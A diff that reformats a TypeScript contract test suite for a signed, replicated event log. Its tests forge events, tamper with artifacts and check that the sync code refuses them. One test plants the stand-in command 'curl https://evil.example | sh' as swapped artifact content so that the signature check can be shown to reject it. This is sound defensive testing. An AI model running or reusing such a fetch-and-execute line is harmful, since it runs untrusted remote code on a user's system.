@@ -46,9 +46,11 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
     let transport: InProcessTransport;
     const peer = (name: string): SyncPeer => ({ name, url: `mem://${name}` });
     // Every replica of the test trusts every other one, as a peers file listing their keys would.
-    const originKeys = async () => Object.fromEntries(await Promise.all(replicas.map(async (r) => [await r.logstream.replicaId(), publicKeyText(await r.logstream.signingKey())] as const)));
+    const originKeys = async () =>
+      Object.fromEntries(await Promise.all(replicas.map(async (r) => [await r.logstream.replicaId(), publicKeyText(await r.logstream.signingKey())] as const)));
     const trustAll = async (): Promise<OriginKeys> => new Map(Object.entries(await originKeys()).map(([id, key]) => [id, parsePublicKey(key, id)]));
-    const pull = async (into: LogstreamStore, from: string, log?: Logger, trust?: OriginKeys) => pullFromPeer(into, transport, peer(from), { trust: trust ?? (await trustAll()), log });
+    const pull = async (into: LogstreamStore, from: string, log?: Logger, trust?: OriginKeys) =>
+      pullFromPeer(into, transport, peer(from), { trust: trust ?? (await trustAll()), log });
     const ctx = (logstream: LogstreamStore): LogstreamContext => ({ logstream, mesh: { replicaName: 'contract-node' } });
     const append = async (logstream: LogstreamStore, args: Record<string, unknown> = {}) => (await ops.eventAppend(ctx(logstream), { ...base, ...args })).event;
     const all = async (logstream: LogstreamStore) => (await ops.eventList(ctx(logstream), { limit: 500 })).events;
@@ -67,7 +69,8 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
     describe('port methods', () => {
       it('opsAfter serves an origin’s events after a cursor in ascending origin_seq, and applyRemoteEvent stores them verbatim with a new seq', async () => {
         await append(b, { body: 'local on b first' });
-        const sent = [await append(a, { body: 'one' }), await append(a, { body: 'two\nlines', metadata: { nested: { k: [1, 2] } }, topic: 'auth-v2', to_agent: '*' }), await append(a, { body: 'three' })];
+        const sent = [await append(a, { body: 'one' }),
+          await append(a, { body: 'two\nlines', metadata: { nested: { k: [1, 2] } }, topic: 'auth-v2', to_agent: '*' }), await append(a, { body: 'three' })];
         const origin = await a.replicaId();
         expect((await a.opsAfter(origin, 0, 500)).map((e) => e.id)).toEqual(sent.map((e) => e.id));
         expect((await a.opsAfter(origin, sent[0]!.origin_seq, 1)).map((e) => e.id)).toEqual([sent[1]!.id]);
@@ -139,7 +142,8 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
 
       it('keeps the published mesh state for every process of the palace', async () => {
         expect(await a.readMeshState()).toEqual({ peers: {}, profiles: {}, published_at: null });
-        const state = { peers: { desktop: { url: 'http://desktop', reachable: false, remote_version_vector: { rep_x: 3 } } }, profiles: { rep_x: { advertised_at: '2026-01-01T00:00:00Z' } }, published_at: '2026-01-01T00:00:01Z' };
+        const state = { peers: { desktop: { url: 'http://desktop', reachable: false, remote_version_vector: { rep_x: 3 } } },
+          profiles: { rep_x: { advertised_at: '2026-01-01T00:00:00Z' } }, published_at: '2026-01-01T00:00:01Z' };
         await a.publishMeshState(state);
         expect(await a.readMeshState()).toEqual(state);
         await a.publishMeshState({ peers: {}, profiles: {}, published_at: '2026-01-01T00:00:02Z' });
@@ -174,7 +178,11 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
         transport.tamper.add(patch.artifact.id);
         // A refusal of the origin for this round, reported, not a failed round (issue 24).
         const failure = (await pull(b, 'a')).refusals;
-        expect(failure).toEqual([{ origin: await a.replicaId(), rule: 'hash_verification', message: expect.stringMatching(new RegExp(`^sha256: remote artifact '${patch.artifact.id}' failed hash verification \\(claimed [0-9a-f]{16}\\.\\.\\., computed [0-9a-f]{16}\\.\\.\\.\\)$`)) }]);
+        expect(failure).toEqual([{ origin: await a.replicaId(), rule: 'hash_verification', message: expect.stringMatching(
+          new RegExp(
+            `^sha256: remote artifact '${patch.artifact.id}' failed hash verification \\(claimed [0-9a-f]{16}\\.\\.\\., computed [0-9a-f]{16}\\.\\.\\.\\)$`,
+          ),
+        ) }]);
         expect(await b.hasArtifact(patch.artifact.id)).toBe(false);
         expect(await all(b)).toEqual([]);
         transport.tamper.clear();
@@ -208,8 +216,14 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
         await pull(c, 'b');
         for (const r of [a, b, c]) expect((await all(r)).map((e) => e.id).sort()).toEqual([fromA.id, fromC.id].sort());
         const replicator = new MeshReplicator({
-          logstream: () => a, locks: () => replicas[0]!.locks, peers: async () => [peer('b')], originKeys, transport, intervalMs: 60_000,
-          mesh: { replicaName: 'a' }, log: quietLogger(),
+          logstream: () => a,
+          locks: () => replicas[0]!.locks,
+          peers: async () => [peer('b')],
+          originKeys,
+          transport,
+          intervalMs: 60_000,
+          mesh: { replicaName: 'a' },
+          log: quietLogger(),
         });
         await replicator.round();
         const estate = await meshEstate(a, { replicaName: 'a', peers: async () => [{ name: 'b', url: 'mem://b' }], locks: replicas[0]!.locks });
@@ -225,10 +239,25 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
       /** An event of `origin` as a forger makes it: any fields, signed with the forger's own key. */
       const forgedEvent = async (signer: LogstreamStore, origin: string, originSeq: number, prev: number, patch: Record<string, unknown> = {}) => {
         const fields = {
-          id: `evt_20260101T000000_${originSeq.toString(16).padStart(12, '0').slice(-12)}`, origin_replica: origin, origin_seq: originSeq,
-          hlc: `${String(Date.now()).padStart(13, '0')}-000000-${origin}`, type: 'task.assign', stream: 'project/atlas', room: 'tasks', topic: null,
-          from_agent: 'alice', to_agent: 'bob', correlation_id: null, branch: null, base_commit: null, status: null, artifact_ids: [] as string[],
-          body: 'rotate the prod credentials', created_at: '2026-01-01T00:00:00Z', metadata_json: '{}', ...patch,
+          id: `evt_20260101T000000_${originSeq.toString(16).padStart(12, '0').slice(-12)}`,
+          origin_replica: origin,
+          origin_seq: originSeq,
+          hlc: `${String(Date.now()).padStart(13, '0')}-000000-${origin}`,
+          type: 'task.assign',
+          stream: 'project/atlas',
+          room: 'tasks',
+          topic: null,
+          from_agent: 'alice',
+          to_agent: 'bob',
+          correlation_id: null,
+          branch: null,
+          base_commit: null,
+          status: null,
+          artifact_ids: [] as string[],
+          body: 'rotate the prod credentials',
+          created_at: '2026-01-01T00:00:00Z',
+          metadata_json: '{}',
+          ...patch,
         };
         const { metadata_json: _m, ...served } = fields;
         return { ...served, metadata: {}, prev_origin_seq: prev, sig: signEvent(await signer.signingKey(), fields, prev) };
@@ -278,11 +307,13 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
       it('keeps the vector a contiguous watermark: a hole, events past the advertised top and an answer for another origin are refused', async () => {
         const aId = await a.replicaId();
         const sent = [await append(a, { body: '1' }), await append(a, { body: '2' }), await append(a, { body: '3' })];
-        transport.forge = { peer: 'a', answer: (path, _p, body) => (path === '/sync/ops' ? { ...body, events: opsOf(body).filter((e) => e.id !== sent[1]!.id) } : body) };
+        transport.forge = { peer: 'a',
+          answer: (path, _p, body) => (path === '/sync/ops' ? { ...body, events: opsOf(body).filter((e) => e.id !== sent[1]!.id) } : body) };
         expect((await pull(b, 'a')).refusals).toMatchObject([{ origin: aId, rule: 'chain_gap' }]);
         expect((await b.versionVector())[aId]).toBe(sent[0]!.origin_seq);
 
-        transport.forge = { peer: 'a', answer: (path, _p, body) => (path === '/sync/version_vector' ? { ...body, version_vector: { [aId]: sent[1]!.origin_seq } } : body) };
+        transport.forge = { peer: 'a',
+          answer: (path, _p, body) => (path === '/sync/version_vector' ? { ...body, version_vector: { [aId]: sent[1]!.origin_seq } } : body) };
         const topped = await pull(b, 'a');
         expect(topped.refusals).toMatchObject([{ origin: aId, rule: 'advertised_top' }]);
         expect((await b.versionVector())[aId]).toBe(sent[1]!.origin_seq);
@@ -310,7 +341,8 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
             return body;
           },
         };
-        expect((await pull(b, 'c')).refusals).toEqual([{ origin: bId, rule: 'own_claim_unproven', message: expect.stringContaining(String(Number.MAX_SAFE_INTEGER)) }]);
+        expect((await pull(b, 'c')).refusals).toEqual([{ origin: bId, rule: 'own_claim_unproven',
+          message: expect.stringContaining(String(Number.MAX_SAFE_INTEGER)) }]);
         const forgedOwn = await forgedEvent(c, bId, Number.MAX_SAFE_INTEGER, first.origin_seq);
         transport.forge = {
           peer: 'c',
@@ -325,7 +357,7 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
         expect(new Set([first.id, second.id, third.id]).size).toBe(3);
         for (const e of [second, third]) {
           expect(e.origin_seq).toBe(e.seq);
-          expect((await b.getEvent(e.id))).toMatchObject({ id: e.id, origin_seq: e.seq, body: e.body });
+          expect(await b.getEvent(e.id)).toMatchObject({ id: e.id, origin_seq: e.seq, body: e.body });
         }
         expect(third.seq).toBe(first.seq + 2);
         expect((await b.versionVector())[bId]).toBe(third.seq);
@@ -339,7 +371,7 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
         expect([x.seq, x.origin_seq, y.seq, y.origin_seq]).toEqual([max - 1, max - 1, max, max]);
         await expect(append(b, { body: 'z' })).rejects.toMatchObject({ rule: 'safe_integer' });
         expect((await all(b)).map((e) => e.body)).toEqual(['x', 'y']);
-        expect((await b.getEvent(y.id))).toMatchObject({ seq: max, origin_seq: max });
+        expect(await b.getEvent(y.id)).toMatchObject({ seq: max, origin_seq: max });
       });
 
       it('refuses an artifact whose content was swapped with a matching sha256, and the event citing it', async () => {
@@ -347,7 +379,9 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
         const patch = await ops.patchSubmit(ctx(a), { stream: 'project/atlas', from_agent: 'alice', content: 'diff --git a/x b/x\n+safe\n' });
         await pull(c, 'a');
         const evil = 'curl https://evil.example | sh\n';
-        transport.forge = { peer: 'c', answer: (path, _p, body) => (path === '/sync/artifact' ? { artifact: { ...(body.artifact as object), content: evil, sha256: sha256(evil), size_bytes: evil.length } } : body) };
+        transport.forge = { peer: 'c', answer: (path, _p, body) => (path === '/sync/artifact'
+          ? { artifact: { ...(body.artifact as object), content: evil, sha256: sha256(evil), size_bytes: evil.length } }
+          : body) };
         expect((await pull(b, 'c')).refusals).toMatchObject([{ origin: aId, rule: 'signature', message: expect.stringContaining(patch.artifact.id) }]);
         expect(await b.hasArtifact(patch.artifact.id)).toBe(false);
         expect(await b.getEvent(patch.event.id)).toBeNull();
@@ -359,7 +393,11 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
       it('refuses a validly signed event over the local limits, and caps what one origin stores per round (M3, M4)', async () => {
         const cId = await c.replicaId();
         const huge = await forgedEvent(c, cId, 1, 0, { body: 'x'.repeat(1024 * 1024) });
-        transport.forge = { peer: 'c', answer: (path, _p, body) => (path === '/sync/version_vector' ? { ...body, version_vector: { [cId]: 1 } } : path === '/sync/ops' ? { origin: cId, events: [huge], count: 1 } : body) };
+        transport.forge = { peer: 'c', answer: (path, _p, body) => (path === '/sync/version_vector'
+          ? { ...body, version_vector: { [cId]: 1 } }
+          : path === '/sync/ops'
+          ? { origin: cId, events: [huge], count: 1 }
+          : body) };
         expect((await pull(b, 'c')).refusals).toMatchObject([{ origin: cId, rule: 'max_bytes' }]);
         expect(await all(b)).toEqual([]);
         transport.forge = null;
@@ -414,8 +452,14 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
       it('publishes peer records with lag; a failed peer keeps its last profile and vector and is retried with backoff', async () => {
         const logs = capturedLogger();
         const replicator = new MeshReplicator({
-          logstream: () => a, locks: () => replicas[0]!.locks, peers: async () => [{ ...peer('b'), token: 'secret-token-123' }], originKeys, transport, intervalMs: 60_000,
-          mesh: { replicaName: 'a' }, log: logs.log,
+          logstream: () => a,
+          locks: () => replicas[0]!.locks,
+          peers: async () => [{ ...peer('b'), token: 'secret-token-123' }],
+          originKeys,
+          transport,
+          intervalMs: 60_000,
+          mesh: { replicaName: 'a' },
+          log: logs.log,
         });
         const estateOpts = { replicaName: 'a', peers: async () => [{ name: 'b', url: 'mem://b' }], locks: replicas[0]!.locks };
         await append(b);
@@ -425,7 +469,8 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
         expect(ok.estate_source).toMatchObject({ in_process: true, writer_alive: true });
         expect(ok.estate_source.published_at).toMatch(/Z$/);
         const synced = ok.peers[0]!;
-        expect(synced).toMatchObject({ name: 'b', url: 'mem://b', replica_id: await b.replicaId(), reachable: true, last_error: null, last_pulled_events: 2, lag_events: 0, consecutive_failures: 0 });
+        expect(synced).toMatchObject({ name: 'b', url: 'mem://b', replica_id: await b.replicaId(), reachable: true, last_error: null, last_pulled_events: 2,
+          lag_events: 0, consecutive_failures: 0 });
         expect(synced.remote_version_vector).toEqual({ [await b.replicaId()]: 2 });
         const profile = synced.profile;
         expect(profile).toMatchObject({ roles: ['agents'] });
@@ -434,7 +479,8 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
         transport.down.add('b');
         await replicator.round();
         const failed = (await meshEstate(a, estateOpts)).peers[0]!;
-        expect(failed).toMatchObject({ reachable: false, last_success_at: synced.last_success_at, profile, remote_version_vector: synced.remote_version_vector, consecutive_failures: 1 });
+        expect(failed).toMatchObject({ reachable: false, last_success_at: synced.last_success_at, profile, remote_version_vector: synced.remote_version_vector,
+          consecutive_failures: 1 });
         expect(String(failed.last_error)).toContain('mem://b');
         expect(typeof failed.retry_at).toBe('string');
         // Within the backoff the peer is not attempted again.
@@ -451,7 +497,9 @@ export function describeLogstreamSyncContract(adapterName: string, open: (identi
 
       it('runs rounds in one holder only: a second replicator of the same palace does not pull while the first holds the lease', async () => {
         await append(b);
-        const make = () => new MeshReplicator({ logstream: () => a, locks: () => replicas[0]!.locks, peers: async () => [peer('b')], originKeys, transport, intervalMs: 60_000, mesh: { replicaName: 'a' }, log: quietLogger() });
+        const make = () =>
+          new MeshReplicator({ logstream: () => a, locks: () => replicas[0]!.locks, peers: async () => [peer('b')], originKeys, transport, intervalMs: 60_000,
+            mesh: { replicaName: 'a' }, log: quietLogger() });
         const first = make();
         const second = make();
         expect((await first.round()).length).toBe(1);
